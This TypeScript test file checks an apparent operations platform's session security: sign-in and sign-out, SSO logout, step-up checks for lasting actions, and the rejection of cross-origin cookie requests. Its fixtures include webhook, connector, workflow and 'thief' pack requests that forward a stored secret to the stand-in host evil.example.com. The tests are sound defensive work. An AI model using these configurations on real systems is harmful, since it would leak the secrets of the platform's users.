import { beforeAll, expect, test } from '@jest/globals'
import {
  BrowserSession,
  browserSignIn,
  ErrorEnvelope,
  IdentityProvider,
  Me,
  originPrefix,
  SsoLocation,
  SsoLogout,
  ssoStart,
} from '@opsplane/contracts'
import { startOidcIssuer, waitFor } from '@opsplane/testing'
import postgres from 'postgres'
import { request } from 'undici'
import type { z } from 'zod'
import { listOperations, type OpenApi, type Operation } from './fuzz/document.js'
import { joinPlatform, type SharedPlatform } from './shared/platform.js'

type Headers = Record<string, string | undefined>

let platform: SharedPlatform
let operations: Operation[]
/** Cookie of a browser in which the owner of the workspace is signed in. */
let cookie: string

const ownPage = { 'sec-fetch-site': 'same-origin' }

async function ask(method: string, target: string, headers: Headers, body?: string) {
  const { info } = platform
  const url = target.startsWith(originPrefix)
    ? `${info.origin}${target.slice(originPrefix.length)}`
    : `${info.baseUrl}${target}`
  const given = { 'x-workspace': info.workspace, 'content-type': 'application/json', ...headers }
  const answer = await request(url, {
    method: method as 'GET',
    headers: Object.fromEntries(Object.entries(given).filter(([, value]) => value !== undefined)),
    ...(body !== undefined && { body }),
  })
  const text = await answer.body.text()
  return { status: answer.statusCode, headers: answer.headers, text }
}

const signIn = (headers: Headers = ownPage) => {
  const { email, password } = platform.info
  return ask('POST', '/auth/session', headers, JSON.stringify({ email, password }))
}
const cookieIn = ({ headers }: { headers: Awaited<ReturnType<typeof ask>>['headers'] }) =>
  [headers['set-cookie']].flat()[0]?.split(';', 1)[0] ?? ''
const me = (headers: Headers) => ask('GET', '/auth/me', headers)

beforeAll(async () => {
  platform = await joinPlatform()
  const document = await request(`${platform.info.baseUrl}/openapi.json`)
  operations = listOperations((await document.body.json()) as OpenApi)
  cookie = cookieIn(await signIn())
})

test('a browser signs in, works, and signs out', async () => {
  const signed = await signIn()
  expect(signed.status).toBe(201)
  BrowserSession.strict().parse((JSON.parse(signed.text) as { data: unknown }).data)
  const other = cookieIn(signed)
  const secret = other.slice(other.indexOf('=') + 1)
  expect(secret).toMatch(/^ops_web_/)
  expect(signed.text).not.toContain(secret.slice(0, 40))
  expect((await me({ ...ownPage, cookie: other })).status).toBe(200)
  expect((await ask('POST', '/auth/logout', { ...ownPage, cookie: other })).status).toBe(204)
  await waitFor(async () => (await me({ ...ownPage, cookie: other })).status === 401)
  expect((await me({ ...ownPage, cookie })).status).toBe(200)
  // A sign-in always creates a new session, whatever cookie was sent.
  const fixed = cookieIn(await signIn({ ...ownPage, cookie }))
  expect(fixed).not.toBe(cookie)
})

test('a browser signs in through an identity provider, and is directed to log out there as well', async () => {
  const issuer = await startOidcIssuer()
  try {
    const own = { ...ownPage, cookie }
    const posted = async (target: string, headers: Headers, body?: object) => {
      const answer = await ask('POST', target, headers, JSON.stringify(body ?? {}))
      return { ...answer, data: JSON.parse(answer.text).data as unknown }
    }
    const parsed = <Schema extends z.ZodType>(schema: Schema, { data }: { data: unknown }) =>
      schema.parse(data)
    const provider = parsed(
      IdentityProvider,
      await posted('/settings/identity-providers', own, {
        ...{
          name: 'SSO',
          issuer: issuer.issuer,
          clientId: issuer.clientId,
          clientSecret: issuer.clientSecret,
        },
      }),
    )
    expect(provider.redirectUri).toBe(`${platform.info.baseUrl}/auth/sso/${provider.id}/callback`)
    issuer.person = { sub: 'owner', claims: {} }
    /** The provider redirects the browser back, which sends only the cookie of the sign-in. */
    const comeBack = async (begun: Awaited<ReturnType<typeof posted>>) => {
      const back = await issuer.visit(parsed(SsoLocation, begun).location)
      const target = back.href.slice(platform.info.baseUrl.length)
      const answer = await ask('GET', target, {
        ...{ 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', cookie: cookieIn(begun) },
        ...{ 'x-workspace': undefined, 'content-type': undefined },
      })
      expect([answer.status, answer.headers.location]).toEqual([303, `${platform.info.origin}/docs`])
      return [answer.headers['set-cookie']].flat().map((set) => set?.split(';', 1)[0] ?? '')
    }
    const wanted = { providerId: provider.id, returnTo: '/docs' }
    const [cleared, ...others] = await comeBack(await posted('/auth/identities', own, wanted))
    expect([cleared?.split('=')[1], others]).toEqual(['', []])

    const [session = ''] = await comeBack(await posted('/auth/sso/start', ownPage, wanted))
    expect(session).toMatch(/=ops_web_/)
    const signedIn = { ...ownPage, cookie: session }
    const who = Me.parse(JSON.parse((await me(signedIn)).text).data)
    expect([who.user.email, who.workspace?.slug]).toEqual([platform.info.email, platform.info.workspace])
    expect(parsed(SsoLogout, await posted('/auth/sso/logout', signedIn)).location).toContain(issuer.issuer)
    await waitFor(async () => (await me(signedIn)).status === 401)
    const removed = await ask('DELETE', `/settings/identity-providers/${provider.id}`, own)
    expect(removed.status).toBe(204)
  } finally {
    await issuer.stop()
  }
})

/** Requests whose effect outlasts a session: secrets for another host, and keys. */
const lasting: Record<string, readonly [method: string, target: string, body: object]> = {
  'a webhook': [
    'POST',
    '/webhooks',
    {
      name: 'w',
      url: 'https://evil.example.com',
      events: ['incident.created'],
      headers: { 'x-k': '{{secrets.kept}}' },
    },
  ],
  'a connector': [
    'POST',
    '/connectors',
    {
      ...{ name: 'c', kind: 'http' },
      config: { baseUrl: 'https://evil.example.com', auth: { type: 'bearer', token: '{{secrets.kept}}' } },
    },
  ],
  'a workflow': [
    'POST',
    '/workflows',
    {
      name: 'f',
      definition: {
        trigger: { type: 'manual' },
        steps: [
          { id: 's', type: 'http', url: 'https://evil.example.com', headers: { k: '{{secrets.kept}}' } },
        ],
      },
    },
  ],
  'a pack': [
    'POST',
    '/sdk/packs/install',
    {
      manifest: {
        ...{ format: 'opsplane.pack/1', name: 'thief', version: '1.0.0' },
        artifacts: [
          {
            ...{ slug: 'thief', kind: 'workflow_action', source: 'a.ts' },
            permissions: { secrets: ['kept'], http: ['evil.example.com'] },
          },
        ],
      },
      files: { 'a.ts': "import { artifact } from '@opsplane/sdk'\nexport default artifact(async () => 1)" },
      grant: { secrets: ['kept'], http: ['evil.example.com'] },
    },
  ],
  'an API key': ['POST', '/auth/tokens', { name: 'k', scopes: ['itsm:read'] }],
  'a secret': ['POST', '/secrets', { name: 'more', value: 'v' }],
}

test('a session without a recent sign-in creates nothing that outlives it', async () => {
  const outcomeOf = async (browser: string, [method, target, body]: (typeof lasting)[string]) => {
    const { status, text } = await ask(method, target, { ...ownPage, cookie: browser }, JSON.stringify(body))
    return status < 300 ? 'done' : ErrorEnvelope.parse(JSON.parse(text)).error.code
  }
  const own = { ...ownPage, cookie }
  /** The secret has no allowed hosts yet: each of these requests would add one. */
  const stored = () => ask('POST', '/secrets', own, JSON.stringify({ name: 'kept', value: 'v' }))
  const stale = cookieIn(await signIn())
  const sql = postgres(platform.info.postgresUrl, { max: 1 })
  const [, id] = /_web_([0-9A-Z]{26})_/.exec(stale) ?? []
  const aged = await sql`
    update settings.sessions set proved_at = '2026-01-01T00:00:00.000Z' where id = ${`ses_${id}`}`
  await sql.end({ timeout: 5 })
  expect(aged.count).toBe(1)
  for (const [what, operation] of Object.entries(lasting)) {
    expect((await stored()).status).toBe(201)
    expect([what, await outcomeOf(stale, operation)]).toEqual([what, 'step_up_required'])
    expect([what, await outcomeOf(cookie, operation)]).toEqual([what, 'done'])
    expect((await ask('DELETE', '/secrets/kept', own)).status).toBe(204)
  }
})

/** Headers a browser sends from a page that is not the platform's. */
const foreign: [string, Headers][] = [
  ['another site', { 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' }],
  ['a sibling site', { 'sec-fetch-site': 'same-site', origin: 'https://apps.example' }],
  ['the address bar', { 'sec-fetch-site': 'none' }],
  ['an old browser at another site', { origin: 'https://evil.example' }],
  ['a sandboxed frame', { origin: 'null' }],
  ['an old browser without an Origin', {}],
  [
    'a form',
    { 'sec-fetch-site': 'cross-site', origin: 'null', 'content-type': 'application/x-www-form-urlencoded' },
  ],
  [
    'a form as text',
    { 'sec-fetch-site': 'cross-site', 'content-type': 'text/plain', 'x-workspace': undefined },
  ],
]

test.each(foreign)('every operation rejects the session cookie in requests from %s', async (_, headers) => {
  // A public operation behaves the same with and without a cookie; but only pages of the platform may sign in.
  const guarded = operations.filter(
    ({ id, secured, path }) =>
      (secured && !path.startsWith(originPrefix)) || id === browserSignIn || id === ssoStart,
  )
  expect(guarded.length).toBeGreaterThan(300)
  const reached: string[] = []
  const next = guarded.values()
  const worker = async () => {
    for (const { id, method, path } of next) {
      const target = path.replaceAll(/\{\w+\}/g, 'absent')
      const sent = method === 'GET' || method === 'DELETE' ? undefined : '{}'
      const { status, text } = await ask(method, target, { cookie, ...headers }, sent)
      const { code, message } = ErrorEnvelope.parse(JSON.parse(text)).error
      if (status !== 403 || code !== 'forbidden' || !message.includes('PUBLIC_ORIGIN'))
        reached.push(`${id}: ${status} ${text}`)
    }
  }
  await Promise.all([worker(), worker(), worker(), worker()])
  expect(reached).toEqual([])
  expect((await me({ ...ownPage, cookie })).status).toBe(200)
})
